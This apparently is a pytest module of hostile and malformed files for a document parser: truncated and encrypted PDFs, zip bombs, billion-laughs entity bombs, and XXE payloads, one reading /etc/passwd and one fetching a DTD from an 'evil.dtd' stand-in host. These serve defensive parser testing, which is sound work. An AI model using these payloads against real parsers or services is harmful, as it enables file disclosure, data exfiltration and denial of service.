"""Hostile and malformed files: each gets its stable error code (or parses, where the file is legitimately
readable); nothing else escapes ``parse_document``, nothing hangs, memory stays bounded, and every code is
permanent. Every case is generated here from the committed fixtures, a seed or a recipe: big ones (the
50 MB line, the 200 MB zip member) only when their test runs, in memory or in tmp_path."""

from __future__ import annotations

import io
import json
import random
import os
import re
import struct
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from pipelines.domain.errors import KbindexError, is_retryable
from pipelines.domain.parsing import ParseLimits, parse_document

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "documents"
OK = "OK"
"""Expected outcome for a file that is legitimately readable: it parses, with text."""
MEMORY_BOUND_MB = 600
LIMITS = ParseLimits(time_limit_s=20.0)
"""The parser's own time guard fires well before the per-test timeout of 30 s."""


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


@dataclass(frozen=True)
class Case:
    id: str
    make: Callable[[], bytes]
    filename: str
    expected: str
    media_type: str | None = None
    contains: str | None = None
    """For OK cases: a phrase the parsed text must contain."""
    xfail: str | None = None
    """A known bug in the parsers (owned elsewhere): the case is a strict xfail with this reason."""
    limits: ParseLimits | None = None
    """Limits for this case instead of ``LIMITS``."""

    @property
    def isolated(self) -> bool:
        """Big or deep inputs parse in a fresh interpreter, so their peak memory is measured from a clean
        baseline (in this process, memory freed by earlier tests could be reused and hide a blow-up)."""
        return any(mark in self.id for mark in ISOLATED)


CASES: list[Case] = []
ISOLATED = ("50mb", "40mb", "zip-bomb", "100k", "nested", "lies", "many-members", "300-pages")


def case(*args, **kwargs) -> None:
    CASES.append(Case(*args, **kwargs))


# --- PDF: truncated at many offsets, encrypted, broken xref ---------------------------------------

# What a truncated file still yields, read the way common readers do (PDFium, then pypdf rebuilding the
# cross-reference): a file cut in its last bytes is read whole (with a warning); one cut earlier has lost
# its catalog (pdflatex puts it in an object stream at the end) and fails PARSE_ERROR.
_TRUNCATED_READABLE = {
    ("pdflatex-4-pages.pdf", "before-eof-marker"): OK,
    ("minimal-document.pdf", "before-eof-marker"): OK,
    ("minimal-document.pdf", 0.99): OK,
    ("libreoffice-writer-password.pdf", "before-eof-marker"): "ENCRYPTED_DOCUMENT",
    ("libreoffice-writer-password.pdf", 0.99): "ENCRYPTED_DOCUMENT",
}
for source in ("pdflatex-4-pages.pdf", "minimal-document.pdf", "libreoffice-writer-password.pdf"):
    _size = len(fixture(source))
    _eof = fixture(source).rfind(b"%%EOF")
    # Offsets across the whole file, all before the final %%EOF: none is a complete PDF.
    for fraction in (0.0002, 0.001, 0.01, 0.05, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.95, 0.99):
        cut = max(1, min(_eof - 1, int(_size * fraction)))
        case(f"truncated-{source}-{cut}", lambda s=source, c=cut: fixture(s)[:c], source,
             _TRUNCATED_READABLE.get((source, fraction), "PARSE_ERROR"))
    case(f"truncated-{source}-before-eof-marker", lambda s=source, e=_eof: fixture(s)[: e + 4], source,
         _TRUNCATED_READABLE.get((source, "before-eof-marker"), "PARSE_ERROR"))
case("truncated-to-nothing", lambda: fixture("minimal-document.pdf")[:0], "minimal-document.pdf", "EMPTY_DOCUMENT")


def _pdf_with_text(text: str) -> bytes:
    """A one-page PDF with a real text layer, written by hand (no generator library needed)."""
    from bench.abuse.bombs import one_page_pdf

    return one_page_pdf(b"", f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode())


def _encrypted(user_password: str, algorithm: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf_with_text("Refunds within 30 days"))))
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


case("encrypted-libreoffice-password", lambda: fixture("libreoffice-writer-password.pdf"),
     "libreoffice-writer-password.pdf", "ENCRYPTED_DOCUMENT")
for _algorithm in ("RC4-40", "RC4-128", "AES-128", "AES-256"):
    case(f"encrypted-user-password-{_algorithm}", lambda a=_algorithm: _encrypted("s3cret", a), "secret.pdf",
         "ENCRYPTED_DOCUMENT")
    case(f"encrypted-owner-password-only-{_algorithm}", lambda a=_algorithm: _encrypted("", a), "owner-only.pdf",
         OK, contains="Refunds within 30 days")


def _startxref_to(data: bytes, value: bytes) -> bytes:
    head, _, tail = data.rpartition(b"startxref")
    number_end = tail.index(b"%%EOF")
    return head + b"startxref\n" + value + b"\n" + tail[number_end:]


def _xref_table_garbled(data: bytes) -> bytes:
    start = data.rindex(b"xref\n0 ")
    end = data.index(b"trailer", start)
    rng = random.Random(7)
    return data[:start] + bytes(rng.choice(b"0123456789 nf\n") for _ in range(end - start)) + data[end:]


_HAND = _pdf_with_text("Leave is 25 days a year")
case("pdf-startxref-points-past-end", lambda: _startxref_to(_HAND, b"99999999"), "broken-xref.pdf", OK,
     contains="Leave is 25 days a year")
case("pdf-startxref-points-to-zero", lambda: _startxref_to(_HAND, b"0"), "broken-xref.pdf", OK,
     contains="Leave is 25 days a year")
case("pdf-startxref-not-a-number", lambda: _startxref_to(_HAND, b"xref"), "broken-xref.pdf", OK,
     contains="Leave is 25 days a year")
case("pdf-xref-table-garbled", lambda: _xref_table_garbled(_HAND), "broken-xref.pdf", OK,
     contains="Leave is 25 days a year")
case("pdf-xref-and-objects-missing", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
     "hollow.pdf", "PARSE_ERROR")
case("pdf-real-file-startxref-broken", lambda: _startxref_to(fixture("pdflatex-4-pages.pdf"), b"12"),
     "pdflatex-4-pages.pdf", OK)


# --- DOCX: zip bombs and XML entity bombs -------------------------------------------------------------


def _docx_with(replace: dict[str, bytes] | None = None, add: dict[str, Callable[[zipfile.ZipFile], None]] | None = None,
               ) -> bytes:
    """The committed handbook.docx with parts replaced, and extra members written by ``add`` callbacks."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(fixture("handbook.docx"))) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            payload = (replace or {}).get(info.filename, source.read(info))
            target.writestr(info.filename, payload, zipfile.ZIP_DEFLATED, 9)
        for writer in (add or {}).values():
            writer(target)
    return out.getvalue()


def _zeros_member(name: str, megabytes: int) -> Callable[[zipfile.ZipFile], None]:
    """A member of ``megabytes`` MiB of zeros, streamed: the 200 MB never sits in memory."""
    def write(target: zipfile.ZipFile) -> None:
        block = bytes(1024 * 1024)
        with target.open(zipfile.ZipInfo(name), "w", force_zip64=True) as member:
            for _ in range(megabytes):
                member.write(block)
    return write


def _zip_with_lying_sizes() -> bytes:
    """word/document.xml declares 2 KiB but inflates to 50 MiB: the declared size must bound the read
    (zipfile stops at it, then the CRC fails)."""
    name = b"word/document.xml"
    bomb = b"<w:document><w:p>" + b"A" * (50 * 1024 * 1024) + b"</w:p></w:document>"
    data = bytearray(_docx_with({name.decode(): bomb}))
    lie = struct.pack("<I", 2048)
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        local = archive.getinfo(name.decode()).header_offset
    data[local + 22 : local + 26] = lie  # local file header: uncompressed size
    at = data.find(b"PK\x01\x02")
    while at >= 0:  # central directory entries: uncompressed size at +24, name length at +28, name at +46
        (name_length,) = struct.unpack("<H", data[at + 28 : at + 30])
        if data[at + 46 : at + 46 + name_length] == name:
            data[at + 24 : at + 28] = lie
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


BILLION_LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
    )
    + b']>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
    b"<w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
)
QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY a "' + b"A" * 50_000 + b'">]>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
    + b"&a;" * 20_000 + b"</w:t></w:r></w:p></w:body></w:document>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
    b"&xxe;</w:t></w:r></w:p></w:body></w:document>"
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;]>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
)

case("docx-zip-bomb-200mb-member", lambda: _docx_with(add={"bomb": _zeros_member("word/media/zeros.bin", 200)}),
     "bomb.docx", "DOCUMENT_TOO_LARGE")
case("docx-zip-bomb-120mb-one-member", lambda: _docx_with(add={"bomb": _zeros_member("word/embeddings/z.bin", 120)}),
     "bomb.docx", "DOCUMENT_TOO_LARGE")
case("docx-zip-many-members", lambda: _docx_with(add={
    "many": lambda z: [z.writestr(f"word/media/{i}.bin", b"x") for i in range(2100)]}), "many.docx", "DOCUMENT_TOO_LARGE")
case("docx-member-lies-about-its-size", _zip_with_lying_sizes, "liar.docx", "PARSE_ERROR")
case("docx-committed-zip-bomb", lambda: fixture("zip-bomb.docx"), "zip-bomb.docx", "DOCUMENT_TOO_LARGE")
case("docx-billion-laughs-document-xml", lambda: _docx_with({"word/document.xml": BILLION_LAUGHS}), "laughs.docx",
     "PARSE_ERROR")
case("docx-billion-laughs-styles-xml", lambda: _docx_with({"word/styles.xml": BILLION_LAUGHS}), "laughs.docx",
     "PARSE_ERROR")
case("docx-billion-laughs-content-types", lambda: _docx_with({"[Content_Types].xml": BILLION_LAUGHS}), "laughs.docx",
     "PARSE_ERROR")
case("docx-quadratic-blowup", lambda: _docx_with({"word/document.xml": QUADRATIC_BLOWUP}), "quadratic.docx",
     "PARSE_ERROR")
case("docx-external-entity", lambda: _docx_with({"word/document.xml": EXTERNAL_ENTITY}), "xxe.docx", "PARSE_ERROR")
case("docx-parameter-entity", lambda: _docx_with({"word/document.xml": PARAMETER_ENTITY}), "xxe.docx", "PARSE_ERROR")
case("docx-committed-entity-bomb", lambda: fixture("entity-bomb.docx"), "entity-bomb.docx", "PARSE_ERROR")
case("docx-document-xml-missing", lambda: _docx_without("word/document.xml"), "hollow.docx", "UNSUPPORTED_DOCUMENT")
case("docx-document-xml-not-xml", lambda: _docx_with({"word/document.xml": b"\x00\x01 not xml"}), "broken.docx",
     "PARSE_ERROR")
case("docx-truncated-zip", lambda: fixture("handbook.docx")[:20_000], "truncated.docx", "PARSE_ERROR")


def _docx_without(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(fixture("handbook.docx"))) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info, source.read(info))
    return out.getvalue()


# --- text: huge, binary, non-UTF-8, empty -----------------------------------------------------------

FIFTY_MB = 50 * 1024 * 1024


def _repeat(unit: bytes, size: int) -> bytes:
    """``unit`` repeated to exactly ``size`` bytes, built without a second full-size copy."""
    buffer = bytearray(unit * (size // len(unit)))
    buffer += unit[: size - len(buffer)]
    return bytes(buffer)
case("text-50mb-single-line", lambda: b"a" * FIFTY_MB, "one-line.txt", "DOCUMENT_TOO_LARGE")
case("text-50mb-single-line-of-long-words", lambda: _repeat(b"reimbursement-of-travel-costs ", FIFTY_MB),
     "words.txt", "DOCUMENT_TOO_LARGE")
case("text-50mb-single-line-of-short-words", lambda: _repeat(b"ab ", FIFTY_MB), "words.txt", "DOCUMENT_TOO_LARGE")
case("text-50mb-single-line-of-14-char-words", lambda: _repeat(b"reimbursement ", FIFTY_MB), "words.txt",
     "DOCUMENT_TOO_LARGE")
case("text-50mb-of-small-paragraphs", lambda: _repeat(b"refunds in 30 days\n\n", FIFTY_MB), "paragraphs.txt",
     "DOCUMENT_TOO_LARGE")
case("text-50mb-of-control-characters", lambda: b"\x01" * FIFTY_MB, "controls.txt", "PARSE_ERROR")
case("text-50mb-of-zero-width-spaces", lambda: _repeat("\u200b".encode(), FIFTY_MB - FIFTY_MB % 3), "invisible.txt",
     "EMPTY_DOCUMENT")
case("html-50mb-paragraph-of-short-words", lambda: b"<p>" + _repeat(b"ab ", FIFTY_MB - 3), "words.html",
     "DOCUMENT_TOO_LARGE")
case("html-50mb-table-cell-of-short-words", lambda: b"<table><tr><td>" + _repeat(b"ab ", FIFTY_MB - 100)
     + b"</td></tr></table>", "cell.html", "DOCUMENT_TOO_LARGE")
case("markdown-50mb-heading-of-short-words", lambda: b"# " + _repeat(b"ab ", FIFTY_MB - 100) + b"\n\nbody\n",
     "heading.md", "DOCUMENT_TOO_LARGE")
case("rst-50mb-of-short-paragraphs", lambda: _repeat(b"ab\n\n", FIFTY_MB), "paragraphs.rst", "DOCUMENT_TOO_LARGE")
case("rst-nested-200k-list-items", lambda: b"- x\n" * 200_000, "items.rst", "DOCUMENT_TOO_LARGE")
case("text-one-byte-over-50mb", lambda: b"a" * (FIFTY_MB + 1), "big.txt", "DOCUMENT_TOO_LARGE")
case("markdown-50mb-single-line", lambda: b"b" * FIFTY_MB, "one-line.md", "DOCUMENT_TOO_LARGE")
case("html-50mb-single-line", lambda: b"<p>" + b"b" * (FIFTY_MB - 3), "one-line.html", "DOCUMENT_TOO_LARGE")
# Heading text counts against ParseLimits.max_chars (and heading paths keep at most 300 characters of it).
case("markdown-50mb-heading-then-body", lambda: b"# " + b"b" * (FIFTY_MB - 100) + b"\n\nbody text\n", "heading.md",
     "DOCUMENT_TOO_LARGE")
case("html-40mb-heading-then-body", lambda: b"<h1>" + b"b" * (40 * 1024 * 1024) + b"</h1><p>body text</p>",
     "heading.html", "DOCUMENT_TOO_LARGE")

for _seed in range(4):
    case(f"random-bytes-named-txt-{_seed}", lambda s=_seed: random.Random(s).randbytes(64 * 1024), "notes.txt",
         "PARSE_ERROR")
case("elf-named-txt", lambda: b"\x7fELF\x02\x01\x01" + bytes(2000), "notes.txt", "UNSUPPORTED_DOCUMENT")
case("png-named-txt", lambda: b"\x89PNG\r\n\x1a\n" + random.Random(1).randbytes(4000), "notes.txt", "UNSUPPORTED_DOCUMENT")
case("gzip-named-txt", lambda: fixture("gzip-named.txt"), "gzip-named.txt", "UNSUPPORTED_DOCUMENT")
case("nul-bytes-named-txt", lambda: bytes(10_000), "zeros.txt", "PARSE_ERROR")
case("text-with-control-characters", lambda: bytes(range(1, 32)) * 300, "controls.txt", "PARSE_ERROR")

_SOTU = fixture("sotu-2015-obama-excerpt.txt").decode("utf-8")
_ZH = fixture("debian-reference-excerpt.zh-cn.txt").decode("utf-8")
case("text-cp1252", lambda: fixture("sotu-2015-obama-excerpt.cp1252.txt"), "sotu.txt", OK, contains="America")
case("text-latin-1", lambda: "Crème brûlée für Zoë, señor. Refunds are paid in 30 days.\n".encode("latin-1") * 40,
     "latin1.txt", OK, contains="Refunds are paid")
case("text-gb18030", lambda: fixture("debian-reference-excerpt.gb18030.txt"), "zh.txt", OK, contains="Debian")
case("text-shift-jis", lambda: ("返金は三十日以内に行われます。領収書を保管してください。\n" * 50).encode("shift_jis"),
     "ja.txt", OK, contains="返金")
_RU = ("Настоящим уведомляем, что возврат денежных средств производится в течение тридцати календарных дней\n"
       "с момента получения заявления. Для оформления возврата необходимо предъявить чек, паспорт и банковскую карту,\n"
       "с которой была произведена оплата. Сотрудник магазина обязан выдать копию заявления с отметкой о принятии.\n") * 5
for _codec in ("koi8-r", "cp1251", "cp866"):
    case(f"text-{_codec}", lambda c=_codec: _RU.encode(c), "ru.txt", OK, contains="возврат денежных средств")
case("text-utf16-le-without-bom", lambda: (_SOTU * 2).encode("utf-16-le"), "sotu.txt", OK, contains="America")
case("text-utf8-with-invalid-bytes", lambda: _SOTU.encode("utf-8").replace(b"America", b"Am\xff\xfeerica", 1),
     "sotu.txt", OK, contains="melting pot")
case("text-utf8-lone-surrogate-bytes", lambda: b"Refunds \xed\xa0\x80 are paid in 30 days.\n" * 20, "surrogate.txt",
     OK, contains="are paid")
case("text-utf8-bom-then-invalid", lambda: b"\xef\xbb\xbfRefunds \xff\xff are paid.\n" * 20, "bom.txt", "PARSE_ERROR")
case("text-mixed-scripts", lambda: (_SOTU[:500] + _ZH[:500]).encode("utf-8"), "mixed.txt", OK, contains="melting pot")

for _name in ("empty.txt", "empty.md", "empty.rst", "empty.html", "empty.pdf", "empty.docx", "empty"):
    case(f"empty-{_name}", lambda: b"", _name, "EMPTY_DOCUMENT")
for _name, _blank in (("spaces.txt", b"    "), ("newlines.md", b"\n\n\n\r\n"), ("tabs.rst", b"\t\t\n\t"),
                      ("blank.html", b" \n "), ("blank.pdf", b"\n\n"), ("blank.docx", b"   ")):
    case(f"whitespace-{_name}", lambda b=_blank: b, _name, "EMPTY_DOCUMENT")
case("whitespace-unicode-spaces", lambda: fixture("whitespace-only.txt"), "whitespace-only.txt", "EMPTY_DOCUMENT")
case("whitespace-utf16-with-bom", lambda: "   \n\t\n".encode("utf-16"), "blank16.txt", "EMPTY_DOCUMENT")
case("zero-width-characters-only", lambda: "\u200b\u200c\u200d\u2060\ufeff\n".encode() * 20, "invisible.txt",
     "EMPTY_DOCUMENT")
case("html-tags-only", lambda: b"<html><head><title></title></head><body> <div> </div> <p></p></body></html>",
     "tags.html", "EMPTY_DOCUMENT")
case("html-only-script-and-style", lambda: b"<html><script>var refund = 1;</script><style>p{}</style></html>",
     "script.html", "EMPTY_DOCUMENT")
case("markdown-html-comment-only", lambda: b"<!-- nothing here -->\n", "comment.md", "EMPTY_DOCUMENT")


# --- deep nesting -------------------------------------------------------------------------------------

DEPTH = 100_000
case("html-100k-nested-divs", lambda: b"<html><body>" + b"<div>" * DEPTH + b"deep refund text" + b"</div>" * DEPTH
     + b"</body></html>", "deep.html", OK, contains="deep refund text")
case("html-100k-nested-spans", lambda: b"<p>" + b"<span>" * DEPTH + b"deep refund text" + b"</span>" * DEPTH + b"</p>",
     "deep.html", OK, contains="deep refund text")
case("html-100k-unclosed-divs", lambda: b"<div>" * DEPTH + b"deep refund text", "unclosed.html", OK,
     contains="deep refund text")
case("html-100k-nested-tables", lambda: b"<table><tr><td>" * 20_000 + b"cell" + b"</td></tr></table>" * 20_000,
     "tables.html", OK, contains="cell")
case("html-100k-nested-headings", lambda: b"<h1>" * DEPTH + b"title" + b"</h1>" * DEPTH + b"<p>body text</p>",
     "headings.html", OK, contains="body text")
# Markdown and reStructuredText refuse absurd nesting (markdown over 50 levels; docutils recursion) as damaged.
case("markdown-100k-nested-blockquotes", lambda: b">" * DEPTH + b" deep refund text\n", "deep.md", "PARSE_ERROR")
case("markdown-3000-nested-lists", lambda: b"".join(b"  " * i + b"- item %d\n" % i for i in range(3000)), "lists.md",
     "PARSE_ERROR")
case("markdown-10-nested-lists", lambda: b"".join(b"  " * i + b"- item %d\n" % i for i in range(10)), "lists.md",
     OK, contains="item 9")
case("rst-300-nested-blockquotes", lambda: b"".join(b"  " * i + b"level %d\n\n" % i for i in range(300)), "deep.rst",
     "PARSE_ERROR")
case("rst-2000-nested-blockquotes", lambda: b"".join(b"  " * i + b"level %d\n\n" % i for i in range(2000)), "deep.rst",
     "PARSE_ERROR")
case("rst-nested-2000-bullets-on-one-line", lambda: b"- " * 2000 + b"deep\n", "bullets.rst", "PARSE_ERROR")
case("rst-nested-20-levels", lambda: b"".join(b"  " * i + b"level %d\n\n" % i for i in range(20)), "deep.rst", OK,
     contains="level 19")
case("html-entity-bomb-doctype", lambda: b"<!DOCTYPE html [" + BILLION_LAUGHS.split(b"[", 1)[1].split(b"]>", 1)[0]
     + b"]><html><body><p>&lol9; refund text</p></body></html>", "laughs.html", OK, contains="refund text")


# --- names that lie -------------------------------------------------------------------------------------


def _plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "Refunds within 30 days.")
    return out.getvalue()


def _xlsx_like() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


case("pdf-named-docx", lambda: fixture("pdflatex-4-pages.pdf"), "report.docx", OK)
case("pdf-named-txt", lambda: fixture("minimal-document.pdf"), "report.txt", OK)
case("docx-named-pdf", lambda: fixture("handbook.docx"), "handbook.pdf", OK, contains="Refunds")
case("docx-named-txt", lambda: fixture("handbook.docx"), "handbook.txt", OK, contains="Refunds")
case("zip-named-pdf", _plain_zip, "archive.pdf", "UNSUPPORTED_DOCUMENT")
case("zip-named-docx", _plain_zip, "archive.docx", "UNSUPPORTED_DOCUMENT")
case("xlsx-named-docx", _xlsx_like, "sheet.docx", "PARSE_ERROR")  # a workbook (by its parts), a broken one
case("html-named-pdf", lambda: b"<html><body><p>Refunds</p></body></html>", "page.pdf", "PARSE_ERROR")
case("text-named-docx", lambda: b"Refunds within 30 days.", "notes.docx", "PARSE_ERROR")
case("png-named-pdf", lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), "scan.pdf", "UNSUPPORTED_DOCUMENT")
case("legacy-doc-named-docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000), "old.docx",
     "UNSUPPORTED_DOCUMENT")
case("text-declared-as-pdf", lambda: b"Refunds within 30 days.", "notes", "PARSE_ERROR", media_type="application/pdf")
case("unknown-extension", lambda: b"Refunds within 30 days.", "notes.xyz", "UNSUPPORTED_DOCUMENT")


# --- slides, sheets, mail, scans (issue 16) ------------------------------------------------------------


def _pptx(slides: int = 1) -> bytes:
    import pptx

    deck = pptx.Presentation()
    for number in range(1, slides + 1):
        slide = deck.slides.add_slide(deck.slide_layouts[1])
        slide.shapes.title.text = f"Refund policy {number}"
        slide.placeholders[1].text_frame.text = "Refunds are paid within 30 days"
        slide.notes_slide.notes_text_frame.text = "Speaker says: mention the receipt"
    out = io.BytesIO()
    deck.save(out)
    return out.getvalue()


def _xlsx(rows: int = 3, width: int = 3) -> bytes:
    """A workbook written as raw parts (fast for big sheets; openpyxl is slow to write 100k rows)."""
    header = "".join(f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>Column {i}</t></is></c>' for i in range(width))
    body = "".join(
        f'<row r="{r}">' + "".join(f'<c r="{chr(65 + i)}{r}"><v>{r * 10 + i}</v></c>' for i in range(width)) + "</row>"
        for r in range(2, rows + 2)
    )
    return _xlsx_parts(f'<sheetData><row r="1">{header}</row>{body}</sheetData>')


_XLSX_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _xlsx_parts(sheet_data: str, dimension: str = "", sheet_xml: bytes | None = None) -> bytes:
    out = io.BytesIO()
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                   '<Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                   '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                   "</Types>")
        z.writestr("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<?xml version="1.0"?><workbook {_XLSX_NS} xmlns:r="{rel}"><sheets>'
                   '<sheet name="Prices" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml if sheet_xml is not None else
                   f'<?xml version="1.0"?><worksheet {_XLSX_NS}>{dimension}{sheet_data}</worksheet>')
    return out.getvalue()


def _zip_with(source: bytes, replace: dict[str, bytes] | None = None,
              add: dict[str, Callable[[zipfile.ZipFile], None]] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as original, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in original.infolist():
            target.writestr(info.filename, (replace or {}).get(info.filename, original.read(info)), zipfile.ZIP_DEFLATED)
        for writer in (add or {}).values():
            writer(target)
    return out.getvalue()


def _eml(body: str = "Refunds are paid within 30 days.", attachments: tuple[tuple[str, bytes], ...] = (),
         headers: bool = True) -> bytes:
    from email.message import EmailMessage

    message = EmailMessage()
    if headers:
        message["From"] = "alice@example.com"
        message["To"] = "bob@example.com"
        message["Subject"] = "Refund policy"
    if body:
        message.set_content(body)
    for name, data in attachments:
        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


def _nested_eml(depth: int) -> bytes:
    from email.message import EmailMessage

    inner = _eml("innermost refund text")
    for level in range(depth):
        outer = EmailMessage()
        outer["From"], outer["Subject"] = "a@example.com", f"level {level}"
        outer.set_content(f"wrapper {level} text")
        outer.add_attachment(inner, maintype="message", subtype="rfc822", filename=f"m{level}.eml")
        inner = outer.as_bytes()
    return inner


def _scan(lines: tuple[str, ...], pages: int = 1, size: tuple[int, int] = (700, 90)) -> bytes:
    """An image-only PDF (what a scanner writes) with ``lines`` drawn on each page by Pillow's own font."""
    from PIL import Image, ImageDraw, ImageFont

    font = ImageFont.load_default(size=30)
    images = []
    for _ in range(pages):
        image = Image.new("L", (size[0], max(size[1], 60 * len(lines) + 30)), 255)
        draw = ImageDraw.Draw(image)
        for index, line in enumerate(lines):
            draw.text((20, 20 + 60 * index), line, fill=0, font=font)
        images.append(image)
    out = io.BytesIO()
    images[0].save(out, "PDF", resolution=100, save_all=True, append_images=images[1:])
    return out.getvalue()


_SLIDE = "ppt/slides/slide1.xml"
_SHEET = "xl/worksheets/sheet1.xml"
case("pptx-ok", _pptx, "deck.pptx", OK, contains="mention the receipt")
case("pptx-zip-bomb-200mb-member", lambda: _zip_with(_pptx(), add={"b": _zeros_member("ppt/media/z.bin", 200)}),
     "bomb.pptx", "DOCUMENT_TOO_LARGE")
case("pptx-zip-many-members", lambda: _zip_with(_pptx(), add={
    "many": lambda z: [z.writestr(f"ppt/media/{i}.bin", b"x") for i in range(2100)]}), "many.pptx", "DOCUMENT_TOO_LARGE")
case("pptx-billion-laughs-slide", lambda: _zip_with(_pptx(), {_SLIDE: BILLION_LAUGHS}), "laughs.pptx", "PARSE_ERROR")
case("pptx-external-entity-slide", lambda: _zip_with(_pptx(), {_SLIDE: EXTERNAL_ENTITY}), "xxe.pptx", "PARSE_ERROR")
case("pptx-slide-not-xml", lambda: _zip_with(_pptx(), {_SLIDE: b"\x00 not xml"}), "broken.pptx", "PARSE_ERROR")
case("pptx-truncated-zip", lambda: _pptx()[:20_000], "cut.pptx", "PARSE_ERROR")
case("pptx-more-slides-than-max-pages", lambda: _pptx_many(60), "long.pptx", "DOCUMENT_TOO_LARGE",
     limits=ParseLimits(time_limit_s=20.0, max_pages=50))
case("xlsx-ok", _xlsx, "prices.xlsx", OK, contains="Column 1: 21")
case("xlsx-zip-bomb-200mb-member", lambda: _zip_with(_xlsx(), add={"b": _zeros_member("xl/media/z.bin", 200)}),
     "bomb.xlsx", "DOCUMENT_TOO_LARGE")
case("xlsx-billion-laughs-sheet", lambda: _xlsx_parts("", sheet_xml=BILLION_LAUGHS), "laughs.xlsx", "PARSE_ERROR")
case("xlsx-quadratic-blowup-sheet", lambda: _xlsx_parts("", sheet_xml=QUADRATIC_BLOWUP), "quad.xlsx", "PARSE_ERROR")
case("xlsx-external-entity-sheet", lambda: _xlsx_parts("", sheet_xml=EXTERNAL_ENTITY), "xxe.xlsx", "PARSE_ERROR")
case("xlsx-sheet-not-xml", lambda: _xlsx_parts("", sheet_xml=b"\x00\x01 not xml"), "broken.xlsx", "PARSE_ERROR")
case("xlsx-truncated-zip", lambda: _xlsx(2000)[:3000], "cut.xlsx", "PARSE_ERROR")
case("xlsx-dimension-claims-every-cell", lambda: _xlsx_parts(
    '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>refund days</t></is></c></row>'
    '<row r="1048576"><c r="XFD1048576"><v>30</v></c></row></sheetData>', '<dimension ref="A1:XFD1048576"/>'),
    "wide.xlsx", OK, contains="refund days")
case("xlsx-rows-over-char-limit", lambda: _xlsx(20_000, 3), "rows.xlsx", "DOCUMENT_TOO_LARGE",
     limits=ParseLimits(time_limit_s=20.0, max_chars=200_000))
case("csv-ok", lambda: b"city;days\nBerlin;30\nHamburg;14\n", "refunds.csv", OK, contains="city: Hamburg; days: 14")
case("csv-header-only", lambda: b"refund,days,receipt\n", "header.csv", OK, contains="refund | days | receipt")
